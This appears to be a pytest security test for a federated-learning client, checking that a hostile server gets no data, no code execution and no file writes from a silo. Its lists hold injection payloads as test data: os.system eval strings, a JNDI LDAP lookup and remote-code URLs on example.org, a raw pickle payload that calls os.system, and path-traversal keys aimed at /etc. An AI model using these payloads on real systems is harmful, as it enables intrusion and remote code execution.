"""More than a thousand scripted tries of a server against one silo: it gets nothing, and the silo goes on.

Every try goes through :data:`fedfm.apps.client`, which Flower calls, up to the site of the silo's worker; the worker's
own process is in ``test_deployment.py``. An audit hook of the interpreter sees every file, process and connection.
"""

from __future__ import annotations

import contextlib
import hashlib
import itertools
import json
import os
import pickle
import random
import struct
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import torch
from flwr.app import Array, ArrayRecord, ConfigRecord, Context, Message, MetricRecord, RecordDict
from test_hostile_server import CLASSES, Bomb, experiment

from fedfm.config.registry import available, resolve
from fedfm.core.wire import flower_records, payload
from fedfm.engines.flower import apps, client_host, client_stub
from fedfm.engines.flower.private_api import identity
from fedfm.errors import ClientFault
from fedfm.linalg.params import Params
from fedfm.privacy.crypto import keys
from fedfm.privacy.exposure import HELLO
from small import tiny_vit

ROW, PLACE = "CanaryOfTheRows", "CanaryOfThePath"
TRAIN, KEYS = "train.FedAvg_train", "aggregate.SecAgg_keys"
GPT = {
    "model": {"name": "nano-gpt2", "weights": "random", "adaptation": {"name": "head"}},
    "data": {"path": "server.csv"},
}
CHANGES = ("os.mkdir", "os.remove", "os.rmdir", "os.rename", "os.link", "os.symlink", "os.chmod", "os.truncate")
PROCESSES = ("subprocess.", "os.system", "os.exec", "os.posix_spawn", "os.fork", "socket.", "ctypes.dlopen")
watched: list[tuple[str, str]] | None = None  # events while a try is under way


def _hook(event: str, arguments: tuple[Any, ...]) -> None:
    if watched is None:
        return
    if event == "open":
        path, _, flags = arguments
        if isinstance(path, int):
            return  # a file that is open
        writes = isinstance(flags, int) and flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND)
        watched.append(("write" if writes else "read", os.fsdecode(path)))
    elif event in (
        "os.mkdir",
        "os.remove",
        "os.rmdir",
        "os.rename",
        "os.link",
        "os.symlink",
        "os.chmod",
        "os.truncate",
    ):
        watched.extend(("write", os.fsdecode(a)) for a in arguments[:2] if isinstance(a, str | bytes))
    elif event.startswith(PROCESSES):
        watched.append((event, str(arguments)))


sys.addaudithook(_hook)


class Silo:
    """One silo with texts, with models that hold code, and with a server that tries."""

    def __init__(self, folder: Path) -> None:
        self.home = folder / PLACE
        self.home.mkdir()
        rows = [f"{ROW}{i} word{i % 5},{CLASSES[i % 2]}" for i in range(24)]
        (self.home / "rows.csv").write_text("text,label\n" + "\n".join(rows))
        self.mark = folder / "mark"
        for name in ("coded", "pickled"):
            tiny_vit(self.home).rename(self.home / name)
        config = json.loads((self.home / "coded/config.json").read_text())
        config["auto_map"] = {"AutoConfig": "own.Config", "AutoModel": "own.Model"}
        config["model_type"] = "own"
        (self.home / "coded/config.json").write_text(json.dumps(config))
        (self.home / "coded/own.py").write_text(f"open({str(self.mark)!r}, 'w')\n")
        (self.home / "pickled/model.safetensors").unlink()
        (self.home / "pickled/pytorch_model.bin").write_bytes(pickle.dumps(Bomb(self.mark)))
        (self.home / "link").symlink_to("/etc")
        self.path = self.home / "silo.toml"
        self.write()
        self.node = {"silo": str(self.path)}
        self.sites: dict[Path, Any] = {}
        self.tries = self.answers = 0
        self.imported: set[str] = set()
        self.events: list[tuple[str, str]] = []

    def write(self, comment: str = "") -> None:
        """The silo's file; a change of it lets a hello be answered that did not fit before."""
        self.path.write_text(
            'name = "north"\ndata = "rows.csv"\nallow = ["mean"]\nmodels = ["coded", "pickled"]\n'
            f"budget = {{ rounds = 10000 }}\n# {comment}\n"
        )

    def worker(self, folder: Path, client: Any, handler: str, head: str, data: bytes) -> tuple[str, bytes]:
        """What the worker's process does with a message, in this process."""
        if folder not in self.sites:
            self.sites[folder] = client_host.of_folder(folder)
        site, own = self.sites[folder]
        answer: tuple[str, bytes] = site.answer(own, handler, head, data)
        return answer

    def ask(self, content: RecordDict, kind: str, text: Any, key: Any = "run", run: int = 1) -> dict[str, Any]:
        """The reply of the app to a message of this type, in a run with this experiment and key."""
        global watched
        self.tries += 1
        with identity():
            message = Message(content, 1, "query")
            context = Context(run, 1, self.node, RecordDict(), {"experiment": text, "key": key})
            before, watched = set(sys.modules), self.events
            try:
                with contextlib.suppress(ValueError):
                    message.metadata.message_type = kind
                if message.metadata.message_type == kind:
                    head, data = flower_records.unpack(apps.client(message, context).content)
                else:  # Flower itself refuses such a type; the site must, too
                    head, data = self.past_flower(flower_records.handler_of(kind), context, content)
            finally:
                watched = None
                # fedfm loads parts of itself as an experiment needs them; no message names a module of another package.
                self.imported |= {m for m in set(sys.modules) - before if m.partition(".")[0] != "fedfm"}
        for canary in (ROW, PLACE, str(self.home)):
            assert canary not in head
            assert canary.encode() not in data
        told: dict[str, Any] = payload.decode(head, data, None)
        self.answers += "fault" not in told
        return told

    def past_flower(self, handler: str, context: Context, content: RecordDict) -> tuple[str, bytes]:
        """The reply's halves to a message that Flower does not let through."""
        head, data = flower_records.unpack(content)
        try:
            return self.worker(client_stub.admit(context.run_config, self.node, 1), None, handler, head, data)
        except ClientFault as fault:
            return client_stub.fault_halves(fault, head, data)

    def send(self, handler: str, body: Any, text: Any, key: Any = "run", round: Any = 1, call: Any = 1) -> Any:
        """:meth:`ask` for a well-formed message; returns the fault's code, or None."""
        head, pieces = payload.encode({"round": round, "call": call, "body": body})
        content = flower_records.pack(head, b"".join(pieces))
        return self.ask(content, flower_records.message_type(handler), text, key).get("fault", {}).get("code")

    def ledger(self) -> list[dict[str, Any]]:
        return [json.loads(line) for line in (self.home / "silo.ledger.jsonl").read_text().splitlines()]


@pytest.fixture(scope="module")
def silo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Silo]:
    with pytest.MonkeyPatch.context() as patch:
        found = Silo(tmp_path_factory.mktemp("silo"))
        patch.setattr(client_stub, "call", found.worker)
        yield found


HONEST = experiment(**GPT)
HIDDEN = experiment(privacy={"aggregator": "secagg"}, **GPT)


@pytest.fixture(scope="module")
def w(silo: Silo) -> Params:
    """The honest run's parameters; all modules that an experiment may name are imported here."""
    for kind in ("methods", "aggregation", "attacks"):
        for name in available(kind):
            resolve(kind, name)
    keys.public_of(keys.entropy(32))  # the library of keys imports parts of itself at the first use
    assert silo.send(HELLO, {"classes": CLASSES}, HONEST, round=0, call=0) is None
    site, _ = silo.sites[silo.home / ".fedfm/runs/run/silo"]
    start: Params = site.silos.population.model.params()
    assert silo.send(TRAIN, {"w": start}, HONEST) is None
    assert silo.send(HELLO, {"classes": CLASSES}, experiment(method={"name": "fedprox"}, **GPT), "other") is None
    silo.imported.clear()
    return start


REFUSED = {
    "E_REFUSED",
    "E_EXPERIMENT",
    "E_FORMAT",
    "E_FIELD",
    "E_SIZE",
    "E_TENSORS",
    "E_SHAPE",
    "E_DTYPE",
    "E_EXCEPTION",
}
CODE = [
    "os:system",
    "subprocess:run",
    "builtins:eval",
    "pickle:loads",
    "torch:load",
    "antigravity:x",
    "evil_module:Evil",
    "fedfm.methods.fedamp:FedAMP",
    "fedfm.methods.fedavg",
    "..fedavg",
    "../fedavg",
    "../../../../tmp/evil",
    "/etc/passwd",
    "file:///etc/passwd",
    "https://example.org/evil.py",
    "git+https://example.org/evil",
    "__import__('os').system('touch mark')",
    "{0.__class__.__init__.__globals__}",
    "${jndi:ldap://example.org/a}",
    "%s%s%n",
    "fedavg\0",
    "fedavg\n",
    "FEDAVG",
    "ｆｅｄａｖｇ",
    "fed\u200bavg",
    "\u202egvadef",
    "_personal",
    "base",
    "__init__",
    "",
    " ",
    "x" * 10_000,
]


# --- 1. handlers ------------------------------------------------------------------------------------------------------


KINDS = ["train", "query", "scores", "reveal", "aggregate", "evaluate", "os", "hello", "TRAIN", "", "train.train"]
NAMES = ["FedAvg_train", "Evaluation_evaluate", "Evaluation_evaluate_start", "Evaluation_reveal", "FedAvg_init"]
NAMES += ["FedAMP_train", "SecAgg_keys", "SecAgg_unmask", "Silos_client", "FedAvg___class__"]


def other_handlers_and_kinds(silo: Silo, w: Params) -> None:
    bodies = [{"w": w}, {"w": w, "part": "test"}, {}]
    for number, (kind, name) in enumerate(itertools.product(KINDS, [*NAMES, *CODE])):
        handler = f"{kind}.{name}"
        if handler != TRAIN:
            assert silo.send(handler, bodies[number % 3], HONEST) in ("E_REFUSED", "E_FIELD", "E_FORMAT"), handler
    for kind in ("query.train__FedAvg_train", "query.scores__Evaluation_evaluate", "query.hello__x", "query.", "train"):
        head, pieces = payload.encode({"round": 1, "call": 1, "body": {"w": w}})
        assert "fault" in silo.ask(flower_records.pack(head, b"".join(pieces)), kind, HONEST)


# --- 2. experiments ---------------------------------------------------------------------------------------------------


def foreign() -> list[dict[str, Any]]:
    """Changes of the experiment that name code, models or rows which are not the silo's to give."""
    found: list[dict[str, Any]] = []
    for name in CODE:
        found += [{"method": {"name": name}}, {"aggregation": {"name": name}}, {"attack": {"name": name}}]
        found += [{"model": {"name": name}}, {"method": {"name": "fedbaf", "foundation": "x", "base": {"name": name}}}]
        found += [{"method": {"name": "fedavg", "local": {"name": name}}}]
        found += [{"model": {"name": "nano-gpt2", "adaptation": {"name": name}}}]
        found += [{"model": {"name": "nano-gpt2", "device": name}}, {"run": {"kernels": name}}]
    for model in ("coded", "pickled", "/anywhere/coded", "../pickled"):
        for task in ("classification", "language_modelling", "zero_shot"):
            found.append({"model": {"name": model, "task": task}})
    for key in ("auto_map", "trust_remote_code", "_attn_implementation", "quantization_config", "torch_dtype"):
        for value in ({"AutoModel": "own.Model"}, True, "org/kernel", "os.system"):
            found.append({"model": {"name": "nano-gpt2", "weights": "random", "options": {key: value}}})
    return found


def experiments_that_name_code_models_and_paths(silo: Silo, w: Params) -> None:
    for number, change in enumerate(foreign()):
        tables = {name: {**GPT.get(name, {}), **change.get(name, {})} for name in {**GPT, **change}}
        if change.get("model", {}).get("name") == "nano-gpt2" and "options" not in change["model"]:
            tables["model"] = change["model"]
        text, key = experiment(**tables), f"foreign-{number}"
        silo.write(key)  # else five misfits would end the tries
        code = silo.send(HELLO, {"classes": CLASSES}, text, key, 0, 0)
        assert code in ("E_EXPERIMENT", "E_EXCEPTION"), (change, code)
        assert silo.send(TRAIN, {"w": w}, text, key) in ("E_REFUSED", "E_EXCEPTION")


def bombs() -> dict[str, Any]:
    """Experiments by name that are too large, too deep, or no text."""
    return {
        "brackets": "a = " + "[" * 100_000,
        "keys": "\n".join(f"k{i} = 1" for i in range(60_000)),
        "dots": ".".join(["a"] * 400_000) + " = 1",
        "quoted dots": "x = { " + " . ".join(["'a'"] * 150_000) + " = 1 }",
        "zeros": "a = " + "9" * 100_000,
        "text": "name = '" + "x" * 900_000 + "'\n" + HONEST,
        "bytes": "\ud800" + HONEST,
        "number": 7,
        "none": None,
    }


def experiments_that_are_bombs(silo: Silo, w: Params) -> None:
    for name, text in bombs().items():
        silo.write(name)
        assert silo.send(HELLO, {"classes": CLASSES}, text, f"bomb-{name}") in ("E_EXPERIMENT", "E_EXCEPTION")
        assert silo.send(TRAIN, {"w": w}, text, f"bomb-{name}") in REFUSED


CHANGED: list[dict[str, Any]] = [
    {"method": {"name": "fedamp"}},
    {"method": {"name": "fedavg", "rounds": 4}},
    {"run": {"seed": 1}},
    {"run": {"local_scores": True}},
    {"data": {"test_fraction": 0.5}},
    {"aggregation": {"name": "secure"}},
    {"privacy": {"aggregator": "secagg"}},
    {"model": {"name": "nano-gpt2", "adaptation": {"name": "lora"}}},
]


def experiments_that_change_in_the_middle_of_a_run(silo: Silo, w: Params) -> None:
    for change in CHANGED:
        tables = {name: {**GPT.get(name, {}), **change.get(name, {})} for name in {**GPT, **change}}
        text = experiment(**tables)
        for changed in (text, HONEST + "\n", HONEST + "# the same", HONEST.replace("fedavg", "fedAvg")):
            assert silo.send(TRAIN, {"w": w}, changed) == "E_EXPERIMENT"
            assert silo.send(HELLO, {"classes": CLASSES}, changed) == "E_EXPERIMENT"
            # without a key the run is named by its experiment: another experiment is another run, without a hello
            assert silo.send(TRAIN, {"w": w}, changed, "") == "E_REFUSED"
    assert silo.send(HELLO, {"classes": CLASSES[::-1]}, HONEST) == "E_EXPERIMENT"


# --- 3. messages ------------------------------------------------------------------------------------------------------


def bodies_of_wrong_types(silo: Silo, w: Params) -> None:
    values: list[Any] = [None, True, 7, -1, 2**62, 1.5, "w", "\0", [], [w], {}, {"w": {}}, torch.zeros(3), Params({})]
    values += [Params({"x": torch.zeros(2)}), Params({name: t.double() for name, t in w.items()})]
    values += [Params({name: t[..., :1] for name, t in w.items()}), [[[[]]]] * 3, {"w": w, "v": w}]
    for value, key in itertools.product(values, ["w", "x", "client", "self", "return"]):
        assert silo.send(TRAIN, {key: value}, HONEST) in REFUSED, (key, type(value))
    for value in values:
        assert silo.send(TRAIN, value, HONEST) in REFUSED
        assert silo.send(HELLO, {"classes": value}, HONEST) in REFUSED
        assert silo.send(TRAIN, {"w": w}, HONEST, round=value if not isinstance(value, int) else -2) in REFUSED
        assert silo.send(TRAIN, {"w": w}, HONEST, call=value if not isinstance(value, int) else -2) in REFUSED


def heads_and_data_that_are_changed_at_random(silo: Silo, w: Params) -> None:
    """What is well-formed all the same is answered, like any update of an allowed mean, and is on the ledger."""
    rng = random.Random(0)
    head, pieces = payload.encode({"round": 1, "call": 1, "body": {"w": w}})
    data = b"".join(pieces)
    for number in range(220):
        text, block = bytearray(head.encode()), bytearray(data)
        for _ in range(rng.randint(1, 4)):
            part = text if number % 2 else block[:64]
            part[rng.randrange(len(part))] = rng.randrange(256)
            block = block if number % 2 else part + block[64:]
        if number % 5 == 0:
            block = block[: rng.randrange(len(block))]
        silo.ask(flower_records.pack(text.decode(errors="replace"), bytes(block)), TRAIN, HONEST)


MILLION = 1_000_000
HEADS = [
    "",
    "null",
    "[" * 200_000,
    '{"m":' * 60_000,
    '{"t":["float32",[1099511627776]]}',
    '{"t":["float32",[-1]]}',
    '{"t":["object",[1]]}',
    '{"m":{"round":"i","call":"i","body":{"m":{"w":{"p":[["a","float32",[9999999999]]]}}}}}',
    '{"m":{"round":"i","call":"i","body":{"m":{"w":{"p":' + "[" * 50_000 + "}}}}}",
    '{"m":{"round":"i","round":"i","call":"i"}}',
    '{"m":{"round":"i","call":"i","body":[' + ",".join(['"f"'] * MILLION) + "]}}",
    '{"m":{"round":"i","call":"i","body":{"s":"' + "\\u0000" * 100_000 + '"}}}',
    "9" * 100_000,
    "NaN",
    "\x00",
    "\ud800",
    "{'m': __import__('os')}",
    "cos\nsystem\n(S'touch mark'\ntR.",
]


def heads_that_are_none(silo: Silo, w: Params) -> None:
    for data in (b"", struct.pack("<qq", 1, 1), b"\xff" * 64, pickle.dumps({"w": 1})):
        for head, kind in itertools.product(HEADS, (TRAIN, HELLO)):
            assert "fault" in silo.ask(flower_records.pack(head, data), kind, HONEST)


def records_that_are_no_message(silo: Silo, w: Params) -> None:
    array = Array("uint8", (3,), flower_records.STYPE, b"abc")
    bomb = Array("object", (1,), "numpy.ndarray", b"\x93NUMPY\x01\x00" + pickle.dumps(Bomb(silo.mark)))
    heads = [ConfigRecord({"json": value}) for value in (7, 1.5, True, b"x", [1], ["x"])]
    heads += [ConfigRecord({}), ConfigRecord({"other": "x"}), MetricRecord({"json": 1})]
    for number, head in enumerate(heads):
        for arrays in (ArrayRecord({"packed": array}), ArrayRecord({"packed": bomb}), ArrayRecord({"x": array})):
            for record in ({"data": arrays, "head": head}, {"data": head, "head": arrays}, {"data": arrays}, {}):
                for kind in (TRAIN, HELLO, "query.x"):
                    told = silo.ask(RecordDict(dict(record)), kind, HONEST)
                    assert told["fault"]["code"] in ("E_FORMAT", "E_EXCEPTION"), number


def messages_that_are_sent_again(silo: Silo, w: Params) -> None:
    """A repeated message gets the same answer, which the ledger counts as bytes and not as another round."""
    before = _rounds(silo)
    for call in range(20):
        assert silo.send(TRAIN, {"w": w}, HONEST, call=call + 2) is None
    assert _rounds(silo) == before
    assert len({line["sha256"] for line in silo.ledger()[-20:]}) == 1


def _rounds(silo: Silo) -> int:
    from fedfm.sites import ledger_summary

    total: int = ledger_summary.report(silo.path)["total"]["rounds"]
    return total


def messages_of_secure_aggregation(silo: Silo, w: Params) -> None:
    """Every message of a separate run in which the server may ask for masked updates, also forged ones."""
    text, key = HIDDEN, "hidden"
    silo.write(key)
    assert silo.send(HELLO, {"classes": CLASSES}, text, key, 0, 0) is None
    table = torch.zeros(3, 1152, dtype=torch.uint8)
    signs, names = torch.zeros(2, 64, dtype=torch.uint8), ["north", "other", "silo"]
    lists = {"sum": 0, "status": torch.full((3,), 2, dtype=torch.uint8), "seals": torch.zeros(3, 96, dtype=torch.uint8)}
    honest: dict[str, dict[str, Any]] = {
        "share": {"names": names, "published": table},
        "hold": {"present": names, "sealed": table[:, :1052]},
        "consent": lists,
        "unmask": {**lists, "names": names[1:], "signatures": signs},
    }
    values: list[Any] = [None, -1, 16, 2**62, 0.5, "north", ["north"] * 3, [], {}, table[:0], table.double(), w]
    before = len(silo.ledger())
    for agreed in (False, True):
        if agreed:
            assert silo.send(KEYS, {"session": "s"}, text, key) is None
        for number, (message, body) in enumerate(honest.items()):
            handler = f"aggregate.SecAgg_{message}"
            assert silo.send(handler, body, text, key, call=number + 2) in ("E_REFUSED", "E_SHAPE")
            for name, value in itertools.product(body, values):
                assert silo.send(handler, {**body, name: value}, text, key, call=number + 2) in REFUSED, (message, name)
            for missing in body:
                assert silo.send(handler, {k: v for k, v in body.items() if k != missing}, text, key) in REFUSED
        for cohort in (torch.ones(3, dtype=torch.uint8), torch.ones(1, dtype=torch.uint8), w, None):
            for number in (0, -1, 16, "0"):
                told = {"number": number, "cohort": cohort}
                assert silo.send(TRAIN, {"w": w, "+told": told}, text, key, call=9) in REFUSED
        assert silo.send(TRAIN, {"w": w}, text, key, call=9) in REFUSED
    # An update leaves neither masked nor plain, however the server asks.
    assert [line["handler"] for line in silo.ledger()[before:]] == [KEYS]


# --- 4. names of runs -------------------------------------------------------------------------------------------------


PATHS: list[Any] = [
    "..",
    ".",
    "../..",
    "../../../../etc",
    "/etc",
    "link",
    "link/passwd",
    "a/../../b",
    "~",
    "~root",
    *CODE,
]
PATHS += ["silo.log", "hello.json", "+first", "con", "a\\..\\b", "\r\n", "\x1b[2J", 7, 1.5, True, ["x"], "é" * 300]
PATHS += [f"{'../' * n}etc/cron.d/x" for n in range(1, 20)] + [f"%2e%2e%2f{n}" for n in range(10)]


def keys_of_runs_that_are_paths(silo: Silo, w: Params) -> None:
    for number, key in enumerate(PATHS):
        silo.write(f"key {number}")
        code = silo.send(TRAIN, {"w": w}, HONEST, key)
        assert code in ("E_REFUSED", "E_EXCEPTION"), key
    assert {p.parent for p in silo.home.glob(".fedfm/runs/*/silo")} == {*(silo.home / ".fedfm/runs").iterdir()}


# --- 5. afterwards ----------------------------------------------------------------------------------------------------


FAMILIES = [
    other_handlers_and_kinds,
    experiments_that_name_code_models_and_paths,
    experiments_that_are_bombs,
    experiments_that_change_in_the_middle_of_a_run,
    bodies_of_wrong_types,
    heads_and_data_that_are_changed_at_random,
    heads_that_are_none,
    records_that_are_no_message,
    messages_that_are_sent_again,
    messages_of_secure_aggregation,
    keys_of_runs_that_are_paths,
]


@pytest.mark.release
def test_a_hostile_server_gets_nothing_in_a_thousand_tries(silo, w, capfd):
    for family in FAMILIES:
        family(silo, w)
    first = next(line["sha256"] for line in silo.ledger() if line["handler"] == TRAIN)
    assert silo.send(TRAIN, {"w": w}, HONEST) is None
    assert silo.ledger()[-1]["sha256"] == first

    assert silo.tries > 1_000
    lines = silo.ledger()
    assert sum(not line["fault"] for line in lines) == silo.answers
    assert {line["fault"] for line in lines} == {"", "E_EXCEPTION"}  # weights that fit no model were tried on the rows
    assert {(line["exposes"], line["handler"]) for line in lines} == {
        ("hello", HELLO),
        ("mean", TRAIN),
        ("mean", KEYS),
    }
    other = experiment(method={"name": "fedprox"}, **GPT)
    agreed = {hashlib.sha256(t.encode()).hexdigest() for t in (HONEST, other, HIDDEN)}
    assert {line["experiment"] for line in lines} <= agreed

    assert not silo.mark.exists()
    assert {p.name for p in silo.home.parent.iterdir()} == {PLACE}
    names = {"rows.csv", "silo.toml", "silo.ledger.jsonl", ".fedfm", "coded", "pickled", "link"}
    assert {p.name for p in silo.home.iterdir()} == names
    home = str(silo.home)
    assert [e for e in silo.events if e[0] == "write" and not e[1].startswith(home)] == []
    assert [e for e in silo.events if e[0] not in ("read", "write")] == []
    read = {path for what, path in silo.events if what == "read" and not path.startswith((home, *_installed()))}
    assert {path for path in read if not path.startswith(("/proc/", "/sys/", "/dev/urandom"))} == set()

    assert silo.imported == set()
    for path in (silo.home / ".fedfm").rglob("*"):
        if path.is_file():
            assert ROW.encode() not in path.read_bytes(), path
    assert ROW not in "".join(capfd.readouterr())


def _installed() -> tuple[str, ...]:
    """Folders of installed code, from which Python and libraries read."""
    import fedfm

    return tuple(
        {sys.prefix, sys.base_prefix, str(Path(fedfm.__file__).parent), *(str(Path(p)) for p in sys.path if p)}
    )
